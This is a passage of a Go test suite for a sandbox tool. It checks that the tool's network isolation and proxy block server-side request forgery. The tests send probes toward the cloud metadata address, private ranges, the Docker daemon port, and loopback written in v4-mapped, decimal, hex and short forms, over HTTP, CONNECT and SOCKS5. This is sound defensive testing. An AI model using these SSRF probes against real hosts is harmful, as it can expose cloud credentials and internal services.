			t.Errorf("S6 violated: the trap listener (allowed on no port) accepted %d connection(s)", n)
		}

		evs := readReport(t, e.rep)
		webN, tlsN, echoN, trapN := atoi(t, web), atoi(t, tlsP), atoi(t, echo), atoi(t, trap)
		portTrap := []string{"port " + trap + " not allowed for allowed.test"}
		port22 := []string{"port 22 not allowed for allowed.test"}
		denied := []string{"denied by deniedDomains"}
		expectReport(t, evs, []blockedWant{
			{"http", "denied.test", webN, denied},
			{"http", "other.test", webN, []string{"not in allowedDomains"}},
			{"connect", "denied.test", tlsN, denied},
			{"connect", "allowed.test", trapN, portTrap},
			{"http", "allowed.test", trapN, portTrap},
			{"connect", "allowed.test", 22, port22},
			{"socks5", "allowed.test", 22, port22},
			{"socks5", "allowed.test", trapN, portTrap},
			{"socks5", "127.0.0.1", echoN, []string{"not in allowedDomains"}},
			{"connect", "other.test", trapN, []string{"not in allowedDomains", "Host header"}},
		}, map[string]int{"allowed.test": webN})
		if ev, ok := findEvent(evs, "allowed", "", "allowed.test", tlsN); !ok || ev.Protocol != "connect" || ev.BytesOut <= 0 || ev.BytesIn <= 0 {
			t.Errorf("report: want an allowed connect event with traffic for allowed.test:%d, got %v (ok=%v)", tlsN, ev, ok)
		}
		if _, ok := findEvent(evs, "allowed", "", "allowed.test", echoN); !ok {
			t.Errorf("report: no allowed event for allowed.test:%d (SOCKS5 and proxy-connect controls)", echoN)
		}
		if !slices.ContainsFunc(evs, func(ev event) bool {
			return ev.Action == "blocked" && ev.Protocol == "http" && strings.Contains(ev.Reason, "Host header") && strings.Contains(ev.Reason, "other.test:"+web)
		}) {
			t.Errorf("report: no blocked http event for the Host header other.test:%s that differs from its URI\n%s", web, reportText(evs))
		}
		if !slices.ContainsFunc(evs, func(ev event) bool { return ev.Action == "blocked" && ev.Protocol == "socks4" }) {
			t.Errorf("report: no blocked socks4 event\n%s", reportText(evs))
		}
		expectSummary(t, r, evs, fmt.Sprintf("denied.test:%s (denied by deniedDomains)", web))
	})
}

// TestItem18_SSRF: with no proxy (mode "none"), the cloud metadata
// address, private and link-local addresses and their v4-mapped and NAT64
// spellings are unreachable (S6), and the v4-mapped spelling of the host's
// loopback reaches only the sandbox's own loopback: the host listener
// accepts nothing.
func TestItem18_SSRF(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		host := listenTCP(t, "127.0.0.1:0")
		if host == nil {
			t.Fatal("cannot listen on the host's loopback")
		}
		_, port, _ := net.SplitHostPort(host.addr)
		a := sb.attacker()
		want := map[string][]string{
			"tcp:169.254.169.254:80":          {"ENETUNREACH"},
			"tcp:[::ffff:169.254.169.254]:80": {"ENETUNREACH"},
			"tcp:[64:ff9b::a9fe:a9fe]:80":     {"ENETUNREACH"},
			"tcp:[fd00:ec2::254]:80":          {"ENETUNREACH"},
			"tcp:10.0.0.1:80":                 {"ENETUNREACH"},
			"tcp:172.17.0.1:2375":             {"ENETUNREACH"},
			"tcp:192.168.0.1:80":              {"ENETUNREACH"},
			"tcp:[fe80::1%lo]:80":             {"ECONNREFUSED", "ENETUNREACH", "EADDRNOTAVAIL", "EINVAL"},
			"tcp:[::ffff:127.0.0.1]:" + port:  {"ECONNREFUSED"},
			"tcp:127.0.0.2:" + port:           {"ECONNREFUSED"},
			"tcp:0.0.0.0:" + port:             {"ECONNREFUSED"},
		}
		r := sb.run(opts{}, argv(a, sortedKeys(want)...))
		// gVisor's stack answers nothing to a link-local address on its
		// loopback (the attempt times out): no connection either way,
		// and the host's listener below sees none.
		expect(t, r, sb.gvisorAlso(want, map[string][]string{"tcp:[fe80::1%lo]:80": {"timeout"}}))
		if n := host.accepted.Load(); n != 0 {
			t.Errorf("S6 violated: the host's loopback listener accepted %d connection(s) from the sandbox", n)
		}
	})
}

// TestItem18_SSRFProxy: the proxy connects to no loopback, metadata or
// host address unless --allow-private opens that very range (S6). Allowed
// names are pinned to 127.0.0.1, 169.254.169.254, ::ffff:127.0.0.1 and the
// host's own address, and IP literals are allowed by --allow-cidr
// 0.0.0.0/0 and ::/0 on the upstreams' ports. Without --allow-private each
// request is refused over plain HTTP, CONNECT and SOCKS5 (names, v4 and
// v6 literals, the v4-mapped, unspecified, short, decimal and hex
// spellings of the loopback), the reason names the address's class
// (loopback, metadata, this host), the report and the stderr summary list
// them, and the upstreams receive nothing. The control, a second sandbox
// with --allow-private 127.0.0.1/32: the loopback name, its v4-mapped pin
// and the literal now reach the upstream, while metadata, ::1 and the
// host's own address stay refused.
func TestItem18_SSRFProxy(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		web := startWeb(t, "127.0.0.1:0", nil)
		p := web.port
		var web6, self *upstream
		if l, err := net.Listen("tcp", "[::1]:0"); err == nil {
			l.Close()
			web6 = startWeb(t, "[::1]:0", nil)
		}
		var selfIP net.IP
		for _, ip := range hostAddrs() {
			if ip.To4() != nil {
				selfIP = ip
				break
			}
		}
		if selfIP != nil {
			self = startWeb(t, net.JoinHostPort(selfIP.String(), "0"), nil)
		}
		a := sb.attacker()
		dir := hostDir(t, sb.mode.uid, "report")
		base := []string{
			"--net", "proxy",
			"--add-host", "loop.test:127.0.0.1",
			"--add-host", "meta.test:169.254.169.254",
			"--add-host", "mapped.test:::ffff:127.0.0.1",
			"--allow-domain", "loop.test:" + p,
			"--allow-domain", "meta.test",
			"--allow-domain", "mapped.test:" + p,
			"--allow-cidr", "0.0.0.0/0:" + p,
		}
		// Outcome of each attack without --allow-private, and in the
		// control run with 127.0.0.1/32 opened: ctlOpen passes there,
		// ctlClosed is still refused, ctlAny is not checked (a spelling of
		// 127.0.0.1 that the proxy may read as that address or refuse).
		const (
			ctlAny = iota
			ctlOpen
			ctlClosed
		)
		type probe struct {
			attack string
			want   string
			ctl    int
		}
		probes := []probe{
			{raw("GET", "http://loop.test:"+p+"/ssrf-loop", "loop.test:"+p), "status=403 blocked=resolves_to_127.0.0.1_(loopback)", ctlOpen},
			{raw("GET", "http://meta.test/latest/meta-data/", "meta.test"), "status=403 blocked=resolves_to_169.254.169.254_(metadata)", ctlClosed},
			{raw("GET", "http://mapped.test:"+p+"/ssrf-mapped", "mapped.test:"+p), "status=403 blocked=resolves_to_127.0.0.1_(loopback)", ctlOpen},
			{raw("GET", "http://127.0.0.1:"+p+"/ssrf-literal", "127.0.0.1:"+p), "status=403 blocked=127.0.0.1_is_loopback", ctlOpen},
			{raw("GET", "http://[::ffff:127.0.0.1]:"+p+"/ssrf-literal-mapped", "[::ffff:127.0.0.1]:"+p), "status=403", ctlAny},
			{raw("GET", "http://0.0.0.0:"+p+"/ssrf-zero", "0.0.0.0:"+p), "status=403", ctlClosed},
			{raw("GET", "http://127.1:"+p+"/ssrf-short", "127.1:"+p), "status=403", ctlAny},
			{raw("GET", "http://2130706433:"+p+"/ssrf-decimal", "2130706433:"+p), "status=403", ctlAny},
			{raw("GET", "http://0x7f.0.0.1:"+p+"/ssrf-hex", "0x7f.0.0.1:"+p), "status=403", ctlAny},
			{raw("GET", "http://localhost:"+p+"/ssrf-localhost", "localhost:"+p), "status=403 blocked=not_in_allowedDomains", ctlClosed},
			{raw("CONNECT", "loop.test:"+p, "loop.test:"+p), "status=403 blocked=resolves_to_127.0.0.1_(loopback)", ctlOpen},
			{raw("CONNECT", "meta.test:443", "meta.test:443"), "status=403 blocked=resolves_to_169.254.169.254_(metadata)", ctlClosed},
			{socks5("loop.test", p, "connect"), "rep=0x02", ctlOpen},
			{socks5("127.0.0.1", p, "connect"), "rep=0x02", ctlOpen},
			{socks5("[::ffff:127.0.0.1]", p, "connect"), "rep=0x02", ctlAny},
			{socks5("meta.test", "80", "connect"), "rep=0x02", ctlClosed},
		}
		if web6 != nil {
			base = append(base, "--allow-cidr", "[::/0]:"+web6.port)
			probes = append(probes,
				probe{raw("GET", "http://[::1]:"+web6.port+"/ssrf-v6", "[::1]:"+web6.port), "status=403 blocked=::1_is_loopback", ctlClosed},
				probe{socks5("[::1]", web6.port, "connect"), "rep=0x02", ctlClosed})
		}
		if self != nil {
			sp := self.port
			base = append(base, "--add-host", "self.test:"+selfIP.String(), "--allow-domain", "self.test:"+sp, "--allow-cidr", "0.0.0.0/0:"+sp)
			probes = append(probes,
				probe{raw("GET", "http://self.test:"+sp+"/ssrf-self", "self.test:"+sp), "status=403 blocked=resolves_to_" + selfIP.String() + "_(this_host)", ctlClosed},
				probe{raw("GET", "http://"+selfIP.String()+":"+sp+"/ssrf-self-literal", selfIP.String()+":"+sp), "status=403 blocked=" + selfIP.String() + "_is_this_host", ctlClosed})
		}
		var list []string
		for _, pr := range probes {
			list = append(list, pr.attack)
		}
		script := qargv(a, list...)

		// The attack: no --allow-private.
		rep := filepath.Join(dir, "attack.jsonl")
		r := sb.run(opts{flags: append(slices.Clone(base), "--report", rep)}, script)
		want := map[string]string{}
		for _, pr := range probes {
			want[pr.attack] = pr.want
		}
		expectOutcome(t, r, want)
		sameSet(t, "loopback HTTP", web)
		for _, u := range []*upstream{web6, self} {
			if u != nil {
				sameSet(t, "HTTP", u)
				if n := u.accepted.Load(); n != 0 {
					t.Errorf("S6 violated: upstream %s accepted %d connection(s)", u.addr, n)
				}
			}
		}
		if n := web.accepted.Load(); n != 0 {
			t.Errorf("S6 violated: the loopback upstream %s accepted %d connection(s)", web.addr, n)
		}
		evs := readReport(t, rep)
		pn := atoi(t, p)
		loop := []string{"loopback"}
		blocked := []blockedWant{
			{"http", "loop.test", pn, loop},
			{"http", "meta.test", 80, []string{"metadata"}},
			{"http", "mapped.test", pn, loop},
			{"http", "127.0.0.1", pn, loop},
			{"http", "0.0.0.0", pn, []string{"unspecified", "this host"}},
			{"connect", "loop.test", pn, loop},
			{"connect", "meta.test", 443, []string{"metadata"}},
			{"socks5", "loop.test", pn, loop},
			{"socks5", "127.0.0.1", pn, loop},
			{"socks5", "meta.test", 80, []string{"metadata"}},
		}
		if self != nil {
			blocked = append(blocked, blockedWant{"http", "self.test", atoi(t, self.port), []string{"this host"}})
		}
		expectReport(t, evs, blocked, nil)
		for _, ev := range evs {
			if ev.Action == "allowed" {
				t.Errorf("report: an allowed event although nothing may pass: %s", ev)
			}
		}
		expectSummary(t, r, evs, fmt.Sprintf("loop.test:%s (resolves to 127.0.0.1 (loopback))", p))

		// The control: the same probes with the loopback opened.
		rep = filepath.Join(dir, "control.jsonl")
		r = sb.run(opts{flags: append(slices.Clone(base), "--report", rep, "--allow-private", "127.0.0.1/32")}, script)
		want = map[string]string{}
		for _, pr := range probes {
			switch {
			case pr.ctl == ctlClosed:
				want[pr.attack] = pr.want
			case pr.ctl == ctlAny:
			case strings.HasPrefix(pr.attack, "socks5:"):
				want[pr.attack] = "rep=0x00"
			case strings.Contains(pr.attack, ",CONNECT,"):
				want[pr.attack] = "status=200"
			default:
				want[pr.attack] = "status=200 body=upstream_/"
			}
		}
		expectOutcome(t, r, want)
		got := web.received()
		for _, path := range []string{"GET /ssrf-literal", "GET /ssrf-loop", "GET /ssrf-mapped"} {
			if !slices.Contains(got, path) {
				t.Errorf("control failed: %q did not reach the loopback upstream with 127.0.0.1/32 opened (got %q)", path, got)
			}
		}
		for _, path := range got {
			if path == "GET /ssrf-zero" || path == "GET /ssrf-localhost" {
				t.Errorf("S6 violated: %q reached the loopback upstream, and only 127.0.0.1/32 was opened", path)
			}
		}
		evs = readReport(t, rep)
		expectReport(t, evs, []blockedWant{{"http", "meta.test", 80, []string{"metadata"}}}, map[string]int{"loop.test": pn})
		for _, u := range []*upstream{web6, self} {
			if u != nil && u.accepted.Load() != 0 {
				t.Errorf("S6 violated: upstream %s accepted %d connection(s) with only 127.0.0.1/32 opened", u.addr, u.accepted.Load())
			}
		}
	})
}

// TestItem15_NetHost: --net host, which gives up network isolation, says
// so on stderr (and the sandbox does share the host's loopback: the
// warning is not idle), and a policy with network.allow_host: false
// refuses it: hutch exits 125 naming allow_host, and the command never
// runs.
func TestItem15_NetHost(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		host := listenTCP(t, "127.0.0.1:0")
		if host == nil {
			t.Fatal("cannot listen on the host's loopback")
		}
		a := sb.attacker()
		r := sb.run(opts{flags: []string{"--net", "host"}}, argv(a, "tcp:"+host.addr))
		expect(t, r, map[string][]string{"tcp:" + host.addr: {"ok"}})
		if !strings.Contains(r.stderr, "warning") || !strings.Contains(r.stderr, "--net host") {
			t.Errorf("--net host gave no warning on stderr\n%s", r)
		}

		pol := filepath.Join(hostDir(t, sb.mode.uid, "policy"), "policy.yaml")
		writeFile(t, pol, "network:\n  allow_host: false\n", 0o644, sb.mode.uid)
		marker := filepath.Join(sb.ws, "ran")
		r = sb.run(opts{flags: []string{"--policy", pol, "--net", "host"}, noCheck: true}, "touch "+marker)
		if r.code != 125 || !strings.Contains(r.stderr, "allow_host") {
			t.Errorf("--net host under allow_host: false: want exit 125 naming allow_host\n%s", r)
		}
		if exists(marker) {
			t.Errorf("the command ran although the policy refuses --net host")
		}
		// The control: the same policy without --net host runs.
		r = sb.run(opts{flags: []string{"--policy", pol}}, "touch "+marker)
		if r.code != 0 || !exists(marker) {
			t.Errorf("control failed: the policy with allow_host: false did not run a command in mode none\n%s", r)
		}
	})
}
